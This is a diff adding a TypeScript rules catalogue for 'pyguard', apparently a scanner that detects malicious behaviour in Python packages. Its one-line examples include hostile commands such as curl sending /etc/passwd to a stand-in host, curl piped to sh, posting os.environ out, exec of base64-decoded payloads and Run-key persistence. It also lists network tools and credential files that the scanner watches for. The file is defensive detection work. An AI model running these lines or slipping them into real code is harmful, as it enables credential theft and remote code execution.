@@ -1,0 +1,68 @@
+// Every rule pyguard reports, documented once: SARIF and HTML read it, and docs/rules.md is generated
+// from it (scripts/gen-rules-doc.ts); a test checks that every rule id the code emits is listed here.
+import type { Severity } from '../../model/result.ts';
+import type { RuleInfo } from '../../model/rules.ts';
+
+export interface RuleDoc {
+  id: string;
+  name: string;
+  family: 'egress' | 'process' | 'dynamic-code' | 'data-flow' | 'install-hook' | 'secrets' | 'archive' | 'package' | 'metadata' | 'known-malware';
+  severity: Severity;
+  catches: string;
+  example: string;
+  falsePositives: string;
+}
+
+export const RULE_DOCS: RuleDoc[] = [
+  // egress
+  { id: 'egress-network-call', name: 'Outbound network call', family: 'egress', severity: 'info', catches: 'A call to a network API from the catalogue (requests, httpx, aiohttp, urllib, http.client, urllib3, socket, ftplib, smtplib, paramiko, grpc, websockets, boto3, ...), resolved through aliases, from-imports, star imports, __import__, importlib, getattr and session objects. The destination is folded from constants when possible. Info for a call a user makes to an unknown destination; low with a hard-coded host; medium for webhook, paste, tunnel, IP-literal or throwaway-TLD hosts; raised one level for import-time code and two for install or startup code.', example: 'requests.post("https://collector.example/v1", json=data)', falsePositives: 'HTTP clients and SDKs call the network by design; at call time these stay info or low.' },
+  { id: 'egress-dns-lookup', name: 'DNS lookup', family: 'egress', severity: 'info', catches: 'Name resolution (socket.gethostbyname, getaddrinfo, dns.resolver) that can carry data in the queried name (DNS exfiltration).', example: 'socket.gethostbyname(f"{user}.x.example")', falsePositives: 'Resolving a host the user configured.' },
+  { id: 'egress-dynamic-attribute', name: 'Network API chosen at run time', family: 'egress', severity: 'low', catches: 'getattr(requests, name)(...) with a computed attribute name on a network module, which hides which call is made.', example: 'getattr(requests, method)(url)', falsePositives: 'Generic wrappers that dispatch an HTTP verb by name.' },
+  { id: 'network-import', name: 'Network module imported', family: 'egress', severity: 'info', catches: 'A network module imported by a file in which no outbound call was found (a capability, not egress).', example: 'import socket', falsePositives: 'Imports for exception classes or constants (socket.timeout).' },
+  { id: 'telemetry-sdk', name: 'Telemetry SDK imported', family: 'egress', severity: 'info', catches: 'An analytics or error-reporting SDK (Sentry, PostHog, Mixpanel, Segment, Amplitude, Datadog, OpenTelemetry exporters, New Relic, Bugsnag, Rollbar, ...).', example: 'import sentry_sdk', falsePositives: 'Optional integrations that only run when the user configures them.' },
+  { id: 'telemetry-call', name: 'Telemetry sent', family: 'egress', severity: 'low', catches: 'Initialising or calling a telemetry SDK, which sends usage or error data to its vendor.', example: 'sentry_sdk.init(dsn=DSN)', falsePositives: 'Opt-in telemetry guarded by a setting.' },
+  { id: 'hardcoded-endpoint', name: 'Hard-coded endpoint', family: 'egress', severity: 'info', catches: 'A URL or IP address constant that code uses (not in comments, docstrings, messages, comparisons or unused metadata such as __url__), when no network call already reports it. Medium for webhooks, paste sites, tunnels, IP-lookup services, IP literals and throwaway TLDs.', example: 'WEBHOOK = "https://discord.example/api/webhooks/123456/abc"', falsePositives: 'Default API base URLs of SDKs (info).' },
+  // secrets
+  { id: 'hardcoded-api-key', name: 'Hard-coded API key or DSN', family: 'secrets', severity: 'low', catches: 'A credential of a remote service recognisable by its shape: Sentry DSN, PostHog phc_ key, AWS AKIA/ASIA key id, GitHub, Slack, Stripe, Google, OpenAI, Anthropic, Telegram bot and Discord bot tokens, private keys. Placeholders (EXAMPLE, xxxx, your-key) are skipped.', example: 'posthog.Posthog("phc_...", host=...)', falsePositives: 'Public client keys that vendors intend to ship (e.g. a PostHog project key).' },
+  { id: 'hardcoded-secret', name: 'Hard-coded credential', family: 'secrets', severity: 'low', catches: 'A random-looking string stored under a secret-like name (api_key, token, secret, password, dsn, write_key).', example: 'API_KEY = "9f8a7b6c5d4e3f2a1b0c9d8e7f6a5b4c"', falsePositives: 'Test fixtures with fake keys that look random.' },
+  // process
+  { id: 'process-spawn', name: 'Process started', family: 'process', severity: 'info', catches: 'subprocess, os.system, os.popen, os.exec*, os.spawn*, pty.spawn, asyncio subprocesses (a capability). Low in install, import or startup code.', example: 'subprocess.run(["git", "describe"])', falsePositives: 'Build helpers that run compilers or git.' },
+  { id: 'process-network-tool', name: 'Process that reaches the network', family: 'process', severity: 'medium', catches: 'A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin or certutil -urlcache.', example: 'os.system("curl -d @/etc/passwd https://x.example")', falsePositives: 'Build scripts that download toolchains.' },
+  { id: 'silent-process', name: 'Hidden process', family: 'process', severity: 'medium', catches: 'A process started without a window, detached or in a new session (CREATE_NO_WINDOW, DETACHED_PROCESS, start_new_session, nohup, setsid).', example: 'subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)', falsePositives: 'Daemons and GUI launchers.' },
+  { id: 'download-execute', name: 'Download and execute', family: 'process', severity: 'high', catches: 'Code that fetches something and runs it: curl | sh, iwr | iex, exec() of a network response.', example: 'os.system("curl -s https://x.example/i.sh | sh")', falsePositives: 'Installers of developer tools (rare in libraries).' },
+  { id: 'powershell-encoded-command', name: 'Encoded PowerShell', family: 'process', severity: 'high', catches: 'powershell -EncodedCommand / -enc with a base64 UTF-16LE script, decoded and shown.', example: 'subprocess.run("powershell -enc SQBFAFgA...")', falsePositives: 'None known in libraries.' },
+  // dynamic code and hiding
+  { id: 'dynamic-code-exec', name: 'exec/eval of dynamic data', family: 'dynamic-code', severity: 'info', catches: 'exec, eval, compile or execfile of a value computed at run time (info when called by the user, low on import, medium at install or startup).', example: 'exec(code, namespace)', falsePositives: 'Templating and code generation (dataclasses, namedtuple).' },
+  { id: 'exec-decoded-payload', name: 'exec of a decoded payload', family: 'dynamic-code', severity: 'high', catches: 'exec/eval of data decoded at run time (base64, base32, base85, hex, zlib, gzip, bz2, rot13, Fernet with a literal key, and chains); the payload is decoded statically and rescanned as a virtual file FILE#decoded-N.', example: 'exec(base64.b64decode("aW1wb3J0IG9z..."))', falsePositives: 'None known.' },
+  { id: 'decoded-python', name: 'Decoded Python code', family: 'dynamic-code', severity: 'medium', catches: 'A constant that decodes to Python source (even when not passed straight to exec); it is rescanned as a virtual file.', example: 'payload = zlib.decompress(base64.b64decode(BLOB))', falsePositives: 'Packed data that happens to look like code.' },
+  { id: 'exec-marshal', name: 'exec of marshalled code', family: 'dynamic-code', severity: 'high', catches: 'exec/eval of a code object built by marshal.loads.', example: 'exec(marshal.loads(data))', falsePositives: 'None known in libraries.' },
+  { id: 'marshal-code', name: 'Code from marshal', family: 'dynamic-code', severity: 'medium', catches: 'marshal.loads/load building code from bytes (high when the bytes are decoded from a constant).', example: 'marshal.loads(zlib.decompress(blob))', falsePositives: 'Bytecode caches and tooling.' },
+  { id: 'code-object', name: 'Hand-built code object', family: 'dynamic-code', severity: 'low', catches: 'types.CodeType / types.FunctionType built by hand.', example: 'types.FunctionType(code, globals())', falsePositives: 'Decorator and serialization libraries.' },
+  { id: 'obfuscated-builtin', name: 'Builtin reached by an obfuscated name', family: 'dynamic-code', severity: 'high', catches: 'exec/eval/compile reached through getattr(__builtins__, "ex"+"ec"), globals()["eval"], __import__("builtins").exec and the like.', example: 'getattr(__builtins__, "ex" + "ec")(src)', falsePositives: 'None known.' },
+  { id: 'dynamic-import', name: 'Import by string', family: 'dynamic-code', severity: 'low', catches: '__import__("socket") or importlib.import_module("base64") of a sensitive module by a constant string, which hides the import.', example: '__import__("os").system(cmd)', falsePositives: 'Compatibility shims.' },
+  { id: 'pyarmor-loader', name: 'PyArmor loader', family: 'dynamic-code', severity: 'medium', catches: 'PyArmor runtime calls that load encrypted code nobody can review.', example: 'from pytransform import pyarmor_runtime; pyarmor_runtime()', falsePositives: 'Commercial packages that protect their code.' },
+  { id: 'hidden-code', name: 'Code hidden off-screen', family: 'dynamic-code', severity: 'medium', catches: 'A line padded with 150+ spaces so the code after them is off-screen in editors and diffs (high when that code imports, execs or decodes).', example: 'x = 1' + ' '.repeat(8) + '...;exec(...)', falsePositives: 'Generated data tables with wide alignment.' },
+  // data flow
+  { id: 'exfiltration', name: 'Secret or identity sent out', family: 'data-flow', severity: 'high', catches: 'A data flow from a source (the whole environment, secret-named environment variables, credential files such as ~/.aws/credentials, ~/.ssh/id_*, .netrc, .pypirc, docker and kube configs, browser and Discord stores, wallets; machine identity such as host name, user name, MAC address; clipboard, screenshots) to a network sink, through assignments, containers, formatting, encoders and the file\'s own functions. The path is reported step by step. Severity weighs the source, the destination (hard-coded, shady) and when it runs.', example: 'requests.post(URL, json=dict(os.environ))', falsePositives: 'Cloud SDKs that send a credential to their own service when the user calls them (reported low or medium, not high).' },
+  { id: 'sensitive-file-access', name: 'Credential file referenced', family: 'data-flow', severity: 'low', catches: 'Code that refers to a credential store (AWS, SSH, .netrc, .pypirc, docker, kube, git credentials, browser profiles, Discord, Telegram, wallets, shell history).', example: 'open(os.path.expanduser("~/.aws/credentials"))', falsePositives: 'SDKs and tools that read their own configuration (botocore, requests\' .netrc support).' },
+  { id: 'persistence', name: 'Persistence location', family: 'data-flow', severity: 'medium', catches: 'Code that refers to a place that runs programs at log-in or boot: Windows Run keys and Startup folder, cron, systemd units, launch agents, scheduled tasks, shell start-up files.', example: 'winreg.SetValueEx(key, "upd", 0, REG_SZ, path)  # Software\\Microsoft\\Windows\\CurrentVersion\\Run', falsePositives: 'System administration tools.' },
+  // install-time hooks
+  { id: 'install-hook-cmdclass', name: 'setup.py command override', family: 'install-hook', severity: 'low', catches: 'setup(cmdclass={"install": ...}) and friends: code pip runs while installing an sdist.', example: 'setup(cmdclass={"install": PostInstall})', falsePositives: 'Packages with compiled extensions override build_ext legitimately.' },
+  { id: 'pth-executes-code', name: '.pth file runs code', family: 'install-hook', severity: 'low', catches: 'A .pth file with lines starting with "import", which site.py executes at every interpreter start. High when that code does anything beyond importing (network, exec, decoding), medium when the file is large.', example: 'import base64;exec(base64.b64decode("..."))', falsePositives: 'setuptools\' distutils-precedence.pth and editable-install hooks (reported low).' },
+];
+
+export function ruleDoc(id: string): RuleDoc | undefined {
+  return RULE_DOCS.find((rule) => rule.id === id);
+}
+
+/** The rules as presenters need them (SARIF driver rules, HTML legend). */
+export function allRules(): RuleInfo[] {
+  return RULE_DOCS.map((rule) => ({
+    id: rule.id,
+    name: rule.name,
+    shortDescription: rule.name,
+    fullDescription: rule.catches,
+    help: `${rule.catches}\n\nExample: ${rule.example}\n\nKnown false positives: ${rule.falsePositives}`,
+    defaultSeverity: rule.severity,
+  }));
+}
